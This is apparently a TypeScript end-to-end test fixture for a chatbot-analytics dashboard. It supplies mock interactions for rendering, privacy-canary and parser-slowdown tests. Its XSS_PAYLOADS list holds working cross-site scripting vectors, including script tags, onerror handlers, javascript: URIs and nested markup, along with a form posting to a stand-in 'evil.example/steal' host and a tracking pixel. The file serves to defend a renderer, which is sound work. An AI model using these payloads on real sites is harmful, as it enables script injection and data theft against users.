/** Interaction bodies the fake Nebuly serves in end-to-end tests. */

import { PATHOLOGICAL_MARKDOWN } from "../../test/pathological-markdown";

export const RICH_ID = "11111111-2222-4333-8444-555555555501";
export const XSS_ID = "11111111-2222-4333-8444-555555555502";
export const LONG_ID = "11111111-2222-4333-8444-555555555503";
export const HUGE_ID = "11111111-2222-4333-8444-555555555504";
export const BARE_ID = "11111111-2222-4333-8444-555555555505";

export function richInteraction() {
  return {
    id: RICH_ID,
    project_id: "proj-1",
    user: "ana@example.com",
    user_query: "How do I rotate my API key?",
    input: "How do I rotate my API key?",
    output: "Use the **Rotate** button.",
    sentiment: "negative",
    emotions: { frustration: 0.8, confusion: 0.3 },
    topic: "Security",
    intent: "Rotate key",
    latency: 2.5,
    cost: 0.0123,
    verbosity: 412,
    text_language: "en",
    timestamp: "2026-11-20T10:00:00Z",
    end_timestamp: "2026-11-20T10:00:03Z",
    pii_removed: true,
    feedback_actions: ["thumbs_down", "regenerate", "custom_signal"],
    feedback_action_text: "The first answer was wrong.",
    feedback_action_rating: 2,
    feedback_type: "explicit_negative",
    tags: { plan: "pro", channel: "web" },
    risky_behavior: ["hallucination"],
    warning_message: "Answer cited a deprecated endpoint.",
    rags: ["https://docs.example.com/keys"],
    rags_details: [{ source: "https://docs.example.com/keys", title: "Key rotation guide", score: 0.9 }],
    actions: ["open_ticket"],
    action_details: [{ action: "open_ticket", ticket: "T-1" }],
    conversation_id: "conv-rich-1",
    conversation: [
      { input: "hi\nsecond line", output: "Hello! How can I help?", timestamp: "2026-11-20T09:58:00Z", is_chosen: false },
      {
        input: "How do I rotate my API key?",
        output:
          "Use the **Rotate** button.\n\n| Step | Where |\n|---|---|\n| 1 | Settings |\n\n```python\ndef rotate():\n    return True\n```\n\nSee [the guide](https://docs.example.com/keys).",
        timestamp: "2026-11-20T10:00:00Z",
        is_chosen: true,
      },
      { input: "thanks", output: "You're welcome.", timestamp: "2026-11-20T10:01:00Z", is_chosen: false },
      { input: "one more", output: "Sure.", timestamp: "2026-11-20T10:02:00Z", is_chosen: false },
    ],
  };
}

/** Each payload tries a different way to run script, load something, or restyle the page. */
export const XSS_PAYLOADS = [
  "<script>window.__xss=1</script>",
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"></svg>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  "[click me](javascript:window.__xss=1)",
  '<a href="javascript:window.__xss=1">html link</a>',
  '<details open ontoggle="window.__xss=1">x</details>',
  '"><script>window.__xss=1</script>',
  "</title><script>window.__xss=1</script>",
  "<style>body{display:none}</style>",
  '<form action="https://evil.example/steal"><button>Submit</button></form>',
  "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
  "![tracker](https://evil.example/pixel.png)",
  '<object data="javascript:window.__xss=1"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
];

export function xssInteraction() {
  const text = XSS_PAYLOADS.join("\n\n");
  return {
    id: XSS_ID,
    user_query: XSS_PAYLOADS[0],
    input: text,
    output: text,
    user: '<img src=x onerror="window.__xss=1">',
    topic: "<script>window.__xss=1</script>",
    feedback_action_text: text,
    feedback_actions: ['<img src=x onerror="window.__xss=1">'],
    feedback_type: "explicit_negative",
    tags: { '<script>window.__xss=1</script>': '<img src=x onerror="window.__xss=1">' },
    rags: ["javascript:window.__xss=1", XSS_PAYLOADS[1]],
    rags_details: [{ source: "javascript:window.__xss=1", title: XSS_PAYLOADS[0], chunk: text }],
    action_details: { html: text },
    warning_message: XSS_PAYLOADS[1],
    risky_behavior: [XSS_PAYLOADS[0]],
    conversation: [{ input: text, output: text, is_chosen: true }],
  };
}

export function longInteraction(turns = 3_000) {
  return {
    id: LONG_ID,
    user_query: "A very long conversation",
    conversation: Array.from({ length: turns }, (_, index) => ({
      input: `Question number ${index + 1}: what about item ${index + 1}?`,
      output: `Answer **${index + 1}**: item ${index + 1} is fine.\n\n- point a\n- point b`,
      timestamp: new Date(Date.UTC(2026, 10, 20, 10, 0, index)).toISOString(),
      is_chosen: index === 1_500,
    })),
  };
}

export const HUGE_MARKER = "needle-at-the-very-end";

export function hugeInteraction() {
  const paragraph = "This sentence pads the answer to a megabyte of model output. ".repeat(20);
  const output = `${Array.from({ length: 900 }, () => paragraph).join("\n\n")}\n\n${HUGE_MARKER}`;
  return { id: HUGE_ID, user_query: "Give me everything", input: "Give me everything", output, conversation: [] };
}

/** Only an id: every other field missing. */
export function bareInteraction() {
  return { id: BARE_ID };
}

export const CANARY_ID = "11111111-2222-4333-8444-555555555506";

/**
 * Values a hidden share must never show, one per place identifying data can hide. Lower-case
 * letters, digits, `-`, `.` and `@` only, so no HTML or JSON escaping can disguise one.
 */
export const CANARIES = {
  user: "cnry-user-ana@corp.example",
  conversationId: "cnry-conversation-id-91",
  projectId: "cnry-project-id-12",
  tagKey: "cnry-tag-key",
  tagValue: "cnry-tag-value",
  ragUrl: "https://cnry-rag.example/doc",
  ragTitle: "cnry-rag-title",
  ragChunk: "cnry-rag-chunk",
  comment: "cnry-feedback-comment",
  actionDetailEmail: "cnry-action-detail@corp.example",
  actionDetailConversation: "cnry-action-detail-conversation",
  feedbackActionBy: "cnry-feedback-action-by@corp.example",
  riskyEvidence: "cnry-risky-evidence",
  emotion: "cnry-emotion@corp.example",
  turnExtra: "cnry-turn-extra-field",
  unknownTop: "cnry-unknown-top-level",
  unknownNested: "cnry-unknown-nested",
  endUser: "cnry-end-user-id",
} as const;

/** An interaction with a canary in every field that can identify someone, known and unknown. */
export function canaryInteraction() {
  return {
    id: CANARY_ID,
    project_id: CANARIES.projectId,
    user: CANARIES.user,
    end_user: CANARIES.endUser,
    conversation_id: CANARIES.conversationId,
    user_query: "Why was my card declined?",
    input: "Why was my card declined?",
    output: "The bank refused the charge.",
    sentiment: "negative",
    emotions: { frustration: 0.7, [CANARIES.emotion]: 0.2 },
    topic: "Payments",
    intent: "Card declined",
    timestamp: "2026-11-20T10:00:00Z",
    feedback_actions: ["thumbs_down", { action: "comment", by: CANARIES.feedbackActionBy }],
    feedback_action_text: CANARIES.comment,
    feedback_action_rating: 1,
    feedback_type: "explicit_negative",
    tags: { [CANARIES.tagKey]: CANARIES.tagValue },
    risky_behavior: [{ type: "pii_leak", evidence: CANARIES.riskyEvidence }],
    rags: [CANARIES.ragUrl],
    rags_details: [{ source: CANARIES.ragUrl, title: CANARIES.ragTitle, chunk: CANARIES.ragChunk }],
    actions: ["lookup_payment"],
    action_details: [{ action: "lookup_payment", email: CANARIES.actionDetailEmail, conversation: CANARIES.actionDetailConversation }],
    conversation: [{ input: "Why was my card declined?", output: "The bank refused the charge.", is_chosen: true, extra: CANARIES.turnExtra }],
    metadata: { account: { owner: { note: CANARIES.unknownNested } } },
    brand_new_field: CANARIES.unknownTop,
  };
}

/** Interactions whose every text field holds Markdown built to make parsers slow or recursive. */
export const HOSTILE_IDS = {
  corpus: "11111111-2222-4333-8444-555555555511",
  incident: "11111111-2222-4333-8444-555555555512",
  incidentLarge: "11111111-2222-4333-8444-555555555513",
} as const;

/** Prefixed to every hostile text: whatever the renderer falls back to must still run nothing. */
const HOSTILE_XSS = '<script>window.__xss=1</script><img src=x onerror="window.__xss=1">';

const hostileText = (name: string, size: number) => `${HOSTILE_XSS}\n\n${PATHOLOGICAL_MARKDOWN[name](size)}`;

/**
 * One turn per [case, size] in `outputs` (outputs are what the Markdown renderer parses), and
 * every other text field hostile too: each input holds the next case and the comment, warning and
 * risk hold others (shown as text, never parsed: kept short), and the query and top-level input
 * and output — titles, list snippets and search, never shown whole — hold 49 KB.
 */
function hostileInteraction(id: string, outputs: [name: string, size: number][]) {
  const names = Object.keys(PATHOLOGICAL_MARKDOWN);
  const next = (name: string) => names[(names.indexOf(name) + 1) % names.length];
  return {
    id,
    user_query: hostileText("dash list (- ×N)", 49_000),
    input: hostileText("lines of whitespace", 49_000),
    output: hostileText("link openers ([a]( ×N)", 49_000),
    user: "hostile@example.com",
    topic: "Hostile output",
    sentiment: "negative",
    timestamp: "2026-11-20T10:00:00Z",
    feedback_action_text: hostileText("quotes (> ×N)", 2_000),
    feedback_type: "explicit_negative",
    warning_message: hostileText("underscore words (_a ×N)", 2_000),
    risky_behavior: [hostileText("pipes (| ×N)", 2_000)],
    conversation: outputs.map(([name, size], index) => ({ input: hostileText(next(name), 500), output: hostileText(name, size), is_chosen: index === 0 })),
  };
}

const INCIDENT_CASES = ["dash list (- ×N)", "quotes (> ×N)", "quotes with spaces (> ×N)", "star words (*a ×N)", "link openers ([a]( ×N)", "table with many columns"];

/**
 * The three hostile interactions the hostile-output spec and the bench render, under the ids
 * given: the whole corpus as outputs (1 KB each), the incident's shapes at 8 KB, and two of them
 * at 49 KB.
 */
export function hostileSet([corpus, incident, incidentLarge]: readonly [string, string, string]) {
  return [
    hostileInteraction(corpus, Object.keys(PATHOLOGICAL_MARKDOWN).map((name) => [name, 1_000])),
    hostileInteraction(incident, INCIDENT_CASES.map((name) => [name, 8_000])),
    hostileInteraction(incidentLarge, [["dash list (- ×N)", 49_000], ["quotes with spaces (> ×N)", 49_000]]),
  ];
}

/**
 * A harmless twin of an interaction: every string replaced by plain prose of the same length, so
 * that a baseline measured in the same run does the same amount of work minus the hostility.
 */
export function benignTwin<T extends { id: string }>(body: T, id: string): T {
  const prose = (length: number) => "The quick brown fox jumps over the lazy dog. ".repeat(Math.ceil(length / 45)).slice(0, length);
  const twin = (value: unknown): unknown =>
    typeof value === "string" ? prose(value.length) : Array.isArray(value) ? value.map(twin) : value && typeof value === "object" ? Object.fromEntries(Object.entries(value).map(([key, item]) => [key, key === "is_chosen" ? item : twin(item)])) : value;
  return { ...(twin(body) as T), id, timestamp: "2026-11-20T10:00:00Z" };
}
